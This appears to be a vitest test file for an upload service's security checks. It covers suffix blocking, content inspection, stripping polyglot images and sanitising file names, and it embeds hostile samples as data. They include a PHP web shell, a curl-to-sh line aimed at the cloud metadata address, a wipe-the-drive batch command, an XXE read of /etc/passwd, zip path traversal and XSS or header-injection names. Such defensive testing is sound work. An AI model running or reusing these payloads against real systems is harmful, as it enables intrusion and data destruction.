import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createActor, useDatabase } from '#packages/testing'
import * as made from './check/hostile.fixture.ts'
import { useFiles } from './files.fixture.ts'
import { openFileStore } from './installation.ts'

const database = useDatabase()
const files = useFiles(database)
const li = createActor()
const {
  script,
  svg,
  officeFile,
  buildZip,
  buildCompoundFile,
  pdfFile,
  imageFile,
  mp4File,
  eicar,
  windowsProgram,
  linuxProgram,
} = made
const text = (content: string) => Buffer.from(content)
const join = (...parts: (Uint8Array | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))

type Making = Buffer | Promise<Buffer>
const counted = { 'by its suffix': 0, 'by its bytes': 0, 'made harmless': 0 }
/** All objects in the store. */
const left = async () => (await (await openFileStore(database)).list('')).objects.map(({ key }) => key.split('/')[0])

/** After the tests of a describe block the store must not contain more objects than before. */
function leavesNothing() {
  let before: (string | undefined)[]
  beforeAll(async () => void (before = await left()))
  afterAll(async () => {
    const after = await left()
    if (after.length !== before.length)
      throw new Error(`before there were ${before.length} objects, now ${after.length}`)
  })
}

describe('refused by suffix before any byte is sent', () => {
  it.each([
    'svg',
    'svgz',
    'html',
    'htm',
    'xhtml',
    'shtml',
    'xml',
    'xsl',
    'mht',
    'js',
    'mjs',
    'php',
    'jsp',
    'aspx',
    'exe',
    'dll',
    'scr',
    'bat',
    'cmd',
    'ps1',
    'vbs',
    'hta',
    'lnk',
    'url',
    'jar',
    'apk',
    'iso',
    'zip',
    'rar',
    '7z',
    'swf',
    'docm',
    'xlsm',
    'pptm',
    'rtf',
    'csv',
    'JPG.EXE',
    'pdf.html',
    'jpg.svg',
    'exe.',
    'html . .',
    'exe::$DATA',
    'jpg/x.exe',
    'jpg\\x.html',
    'e\u200bxe',
    '\u202egpj.exe',
    'jpg\u0000.exe',
    'jpg;.exe',
    'jpg%00.php',
  ])('photo.%s', async (suffix) => {
    await expect(files.begin(li, `photo.${suffix}`, 10)).rejects.toThrow('不支持的文件类型')
    counted['by its suffix']++
  })
  leavesNothing()
})

describe('refused by content and deleted', () => {
  it.concurrent.each<[string, string, () => Making]>([
    ['a page as text', 'a.txt', () => text(`<!DOCTYPE html><html><body>${script}`)],
    ['a page after empty lines', 'a.txt', () => text(`\n\n   <html>${script}`)],
    ['a page behind a comment', 'a.txt', () => text(`<!-- x --><b>${script}`)],
    ['a script far down in a text', 'a.txt', () => text(`${'你好\n'.repeat(40_000)}${script}`)],
    ['a page as text in UTF-16', 'a.txt', () => join([0xff, 0xfe] as never, Buffer.from(`<html>${script}`, 'utf16le'))],
    ['a drawing as text', 'a.txt', () => text(svg)],
    ['a drawing with its head as text', 'a.txt', () => text(`<?xml version="1.0"?>${svg}`)],
    ['PHP as text', 'a.txt', () => text('<?php system($_GET["c"]); ?>')],
    ['a shell script as text', 'a.txt', () => text('#!/bin/sh\ncurl http://169.254.169.254/ | sh\n')],
    ['a batch file as text', 'a.txt', () => text('@echo off\r\ndel /q c:\\*\r\n')],
    ['an e-mail page as text', 'a.txt', () => text('MIME-Version: 1.0\nContent-Type: text/html\n\n<b>x')],
    ['a program as text', 'a.txt', () => windowsProgram],
    ['a text with hidden signs', 'a.txt', () => text('hello\u0000world')],
    ['noise as text', 'a.txt', () => Buffer.from(Array.from({ length: 300 }, (_, at) => (at * 167 + 13) % 256))],
    ['the test virus', 'a.txt', () => text(eicar)],
    ['the test virus over the edge of two pieces', 'a.txt', () => text(`${'a'.repeat(65_500)}${eicar}`)],
    ['the test virus in a film', 'a.mp4', () => mp4File('isom', eicar)],
    ['a page as a picture', 'a.jpg', () => text(`<html>${script}`)],
    ['a drawing as a JPEG', 'a.jpg', () => text(svg)],
    ['a drawing as a PNG', 'a.png', () => text(`<?xml version="1.0"?>${svg}`)],
    ['a drawing as a WebP', 'a.webp', () => text(svg)],
    ['a script that begins as a GIF', 'a.gif', () => text('GIF89a/*\0\0*/=1;alert(document.domain)')],
    ['a page that begins as a BMP', 'a.bmp', () => text(`BM${script}${' '.repeat(60)}`)],
    ['a program as a picture', 'a.jpg', () => windowsProgram],
    ['a TIFF as a picture', 'a.jpg', () => imageFile('tiff')],
    ['a picture that is cut off', 'a.jpg', async () => (await imageFile('jpeg', 800, 600)).subarray(0, 900)],
    ['a PNG that is cut off', 'a.png', async () => (await imageFile('png', 300, 300)).subarray(0, 80)],
    ['a picture of a billion pixels', 'a.png', () => made.oversizedPng(40_000, 40_000)],
    ['a picture a million wide', 'a.png', () => made.oversizedPng(1_000_000, 2_000)],
    ['a picture without height', 'a.png', () => made.oversizedPng(100, 0)],
    ['a page as a PDF', 'a.pdf', () => text(`<html>${script}`)],
    ['a page before a PDF', 'a.pdf', () => pdfFile('', { before: `<html>${script}\n` })],
    ['a page in the beginning of a PDF', 'a.pdf', () => pdfFile(script)],
    ['a page behind a PDF', 'a.pdf', () => pdfFile('', { after: `<html>${script}` })],
    [
      'an archive behind a PDF',
      'a.pdf',
      () => pdfFile('', { after: buildZip([{ name: 'a', data: 'a' }]).toString('latin1') + ' '.repeat(5000) }),
    ],
    ['a PDF that starts programs', 'a.pdf', () => pdfFile('2 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
    ['a PDF without an end', 'a.pdf', () => text('%PDF-1.4\n1 0 obj<<>>endobj\n')],
    ['a program as a PDF', 'a.pdf', () => linuxProgram],
    ['an archive as a document', 'a.docx', () => buildZip([{ name: 'x.txt', data: 'x' }])],
    [
      'a Java program as a document',
      'a.docx',
      () =>
        buildZip([
          { name: 'META-INF/MANIFEST.MF', data: 'x' },
          { name: 'A.class', data: 'x' },
        ]),
    ],
    ['a table as a document', 'a.docx', () => officeFile('xlsx')],
    ['a document as a table', 'a.xlsx', () => officeFile('docx')],
    ['a document as a show', 'a.pptx', () => officeFile('docx')],
    ['a page as a document', 'a.docx', () => text(`<html>${script}`)],
    ['a document with macros', 'a.docx', () => officeFile('docx', [{ name: 'word/vbaProject.bin', data: 'x' }])],
    [
      'a document that says it has macros',
      'a.docx',
      () => buildZip([made.typesEntry('application/vnd.ms-word.document.macroEnabled.main+xml')]),
    ],
    [
      'a document with a control',
      'a.docx',
      () => officeFile('docx', [{ name: 'word/activeX/activeX1.bin', data: 'x' }]),
    ],
    [
      'a document with a program',
      'a.docx',
      () => officeFile('docx', [{ name: 'word/embeddings/run.exe', data: windowsProgram }]),
    ],
    [
      'a document with entities',
      'a.docx',
      () => buildZip([made.typesEntry(made.mainTypes.docx, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')]),
    ],
    [
      'a document that leads out',
      'a.docx',
      () => officeFile('docx', [{ name: '../../../../etc/cron.d/x', data: 'x' }]),
    ],
    ['a document that leads to the root', 'a.docx', () => officeFile('docx', [{ name: '/etc/passwd', data: 'x' }])],
    ['a document with an entry twice', 'a.docx', () => officeFile('docx', [{ name: 'word/document.xml', data: 'x' }])],
    ['an encrypted document', 'a.docx', () => officeFile('docx', [{ name: 'x.xml', data: 'x', isEncrypted: true }])],
    ['a bomb that says so', 'a.docx', () => officeFile('docx', [{ name: 'x.xml', data: 'x', size: 400 * 2 ** 20 }])],
    [
      'a bomb that says nothing',
      'a.xlsx',
      () => officeFile('xlsx', [{ name: 'x.xml', data: Buffer.alloc(20 * 2 ** 20), size: 100 }]),
    ],
    ['a bomb that overlaps', 'a.docx', () => made.overlappingEntries()],
    ['a page before a document', 'a.docx', () => officeFile('docx', [], { before: `<html>${script}` })],
    ['a page behind a document', 'a.docx', () => officeFile('docx', [], { after: `<html>${script}` })],
    ['a document that is cut off', 'a.docx', () => officeFile('docx').subarray(0, 200)],
    [
      'a page as an old document',
      'a.doc',
      () => text(`<html xmlns:w="urn:schemas-microsoft-com:office:word">${script}`),
    ],
    ['a rich text as an old document', 'a.doc', () => text('{\\rtf1{\\object\\objocx}}')],
    ['a new document as an old one', 'a.doc', () => officeFile('docx')],
    ['a table as an old document', 'a.doc', () => buildCompoundFile(['Workbook'])],
    ['an old document with macros', 'a.doc', () => buildCompoundFile(['WordDocument', 'Macros', 'VBA'])],
    ['an old table with macros', 'a.xls', () => buildCompoundFile(['Workbook', '_VBA_PROJECT_CUR'])],
    ['an old show with a program', 'a.ppt', () => buildCompoundFile(['PowerPoint Document', '\u0001Ole10Native'])],
    ['an old document that goes round in circles', 'a.doc', () => buildCompoundFile(['a', 'b', 'c', 'd'], { next: 1 })],
    ['an old document that leads out', 'a.wps', () => buildCompoundFile(['a'], { next: 5_000_000 })],
    ['an installer as an old document', 'a.wps', () => buildCompoundFile(['\u0005SummaryInformation', '!_StringData'])],
    ['an old document that is cut off', 'a.xls', () => buildCompoundFile(['Workbook']).subarray(0, 520)],
    ['a page as a film', 'a.mp4', () => text(`<html>${script}`)],
    ['a page inside the head of a film', 'a.mp4', () => mp4File('isom', script)],
    ['a page behind the head of a song', 'a.mp3', () => join('ID3\x03\0\0\0\0\0\0', `<html>${script}`)],
    ['a page as a recording', 'a.wav', () => join('RIFF\x24\0\0\0WAVEfmt ', script)],
    ['an AVI as a recording', 'a.wav', () => join('RIFF\x24\0\0\0AVI LIST', Buffer.alloc(100))],
    ['a program as a recording', 'a.aac', () => windowsProgram],
    ['a song as a film', 'a.webm', () => join('ID3\x03\0\0\0\0\0\0', Buffer.alloc(600))],
  ])('%s (%s)', async (_, name, make) => {
    const state = await files.upload(li, name, await make())
    expect(state).toMatchObject({ status: 'refused', message: '文件未通过安全检查，已删除', file: null })
    counted['by its bytes']++
  })
  leavesNothing()
})

describe('made harmless', () => {
  const served = async (name: string, bytes: Uint8Array) => {
    const { status, file } = await files.upload(li, name, bytes)
    expect(status).toBe('ready')
    counted['made harmless']++
    const answer = await fetch(file!.url)
    expect(answer.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/)
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(answer.headers.get('content-type')).toMatch(/^(image\/(jpeg|png|gif|webp)|text\/plain; charset=[\w-]+)$/)
    return { file: file!, answer, bytes: Buffer.from(await answer.arrayBuffer()) }
  }

  it.concurrent.each<[string, string, () => Making]>([
    ['a page behind a JPEG', 'a.jpg', async () => join(await imageFile('jpeg'), script)],
    [
      'an archive behind a JPEG',
      'a.jpg',
      async () => join(await imageFile('jpeg'), buildZip([{ name: script, data: script }])),
    ],
    [
      'an archive behind a GIF',
      'a.gif',
      async () => join(await imageFile('gif'), buildZip([{ name: script, data: script }])),
    ],
    ['a program behind a PNG', 'a.png', async () => join(await imageFile('png'), windowsProgram, script)],
    [
      'a page in the words of a JPEG',
      'a.jpg',
      async () =>
        sharp(await imageFile('jpeg'))
          .withExif({ IFD0: { ImageDescription: script } })
          .toBuffer(),
    ],
    ['a page behind a WebP', 'a.webp', async () => join(await imageFile('webp'), script)],
  ])('%s', async (_, name, make) => {
    const hostile = await make()
    expect(hostile.includes('alert(document.domain)')).toBe(true)
    const { bytes } = await served(name, hostile)
    for (const word of ['alert', 'PK\x03\x04', 'MZ', 'script']) expect(bytes.includes(word)).toBe(false)
    expect(await sharp(bytes).metadata()).toMatchObject({ width: 40, height: 30 })
  })

  it('an image of another type gets the right suffix', async () => {
    const { file, answer } = await served('photo.jpg', await imageFile('png'))
    expect([file.name, answer.headers.get('content-type')]).toEqual(['photo.png', 'image/png'])
  })

  it.concurrent.each([
    ['../../../../etc/passwd.txt', 'passwd.txt'],
    ['C:\\Windows\\System32\\drivers.txt', 'drivers.txt'],
    ['CON.txt', '_CON.txt'],
    ['.htaccess.txt', 'htaccess.txt'],
    ['a\r\nset-cookie: x=1\r\n.txt', 'aset-cookie_ x=1.txt'],
    ['<img src=x onerror=alert(1)>.txt', '_img src=x onerror=alert(1)_.txt'],
    ['http:／／169.254.169.254／latest.txt', 'http_／／169.254.169.254／latest.txt'],
    ['file:///etc/passwd.txt', 'passwd.txt'],
    ['合同\u202etxt.exe.txt', '合同txt.exe.txt'],
    ['a\u200b\u2066b\u2069\ufeff.txt', 'ab.txt'],
    ['a"; filename="b.html";.txt', 'a_; filename=_b.html_;.txt'],
    ["'; drop table file; --.txt", "'; drop table file; --.txt"],
    ['{{7*7}}${7*7}%0d%0a.txt', '{{7_7}}${7_7}%0d%0a.txt'],
    [`${'长'.repeat(196)}.txt`, `${'长'.repeat(196)}.txt`],
  ])('a name: %s', async (given, name) => {
    const { file, answer } = await served(given, text('春眠不觉晓'))
    expect(file.name).toBe(name)
    expect(answer.headers.get('set-cookie')).toBeNull()
    expect(answer.headers.get('content-disposition')).toMatch(/^inline; filename="[^"\\]*"; filename\*=UTF-8''[^'" ]*$/)
    expect(new URL(file.url).pathname).toMatch(/^\/f\/[\w-]{147}\/[^/]+$/)
  })
})

describe('accepted files', () => {
  it.concurrent.each<[string, string, () => Making]>([
    ['a text', '诗.txt', () => text('春眠不觉晓\r\n\t1 < 2 & 3 > 2\n')],
    ['a text in the encoding of Windows', '诗.txt', () => Buffer.from('b9d8d3dabfaad5b9c6dac4a9b9a4d7f7', 'hex')],
    ['a text of Notepad', '诗.txt', () => join([0xff, 0xfe] as never, Buffer.from('关于工作', 'utf16le'))],
    ['a PDF', '文.pdf', () => pdfFile()],
    ['a document', '文.docx', () => officeFile('docx', [{ name: 'word/media/icon.svg', data: svg }])],
    ['a table', '表.XLSX', () => officeFile('xlsx')],
    ['a show', '课.pptx', () => officeFile('pptx')],
    [
      'an old document',
      '文.doc',
      () => buildCompoundFile(['WordDocument', '1Table', 'ObjectPool', '\u0001CompObj', 'Data']),
    ],
    ['a document of WPS', '文.wps', () => buildCompoundFile(['WordDocument', 'WpsCustomData'])],
    ['an old table', '表.xls', () => buildCompoundFile(['Workbook'])],
    ['an old show', '课.ppt', () => buildCompoundFile(['Current User', 'PowerPoint Document', 'Pictures'])],
    ['a JPEG', '照.jpeg', () => imageFile('jpeg')],
    ['a film', '片.mp4', () => mp4File()],
    ['a film of a phone', '片.mov', () => mp4File('qt  ')],
  ])('%s passes', async (_, name, make) => {
    const { status, file } = await files.upload(li, name, await make())
    expect([status, file?.name]).toEqual(['ready', name])
    expect((await fetch(file!.downloadUrl)).status).toBe(200)
  })

  it('a text is served in its own encoding', async () => {
    const { file } = await files.upload(li, '诗.txt', Buffer.from('b9d8d3dabfaad5b9', 'hex'))
    expect((await fetch(file!.url)).headers.get('content-type')).toBe('text/plain; charset=gb18030')
  })
})

afterAll(() => {
  const words = Object.entries(counted).map(([what, count]) => `${count} ${what}`)
  const all = Object.values(counted).reduce((sum, count) => sum + count)
  console.log(`hostile uploads: ${all} in all, refused or served harmless: ${words.join(', ')}`)
  if (all < 80) throw new Error(`only ${all} were tried`)
})
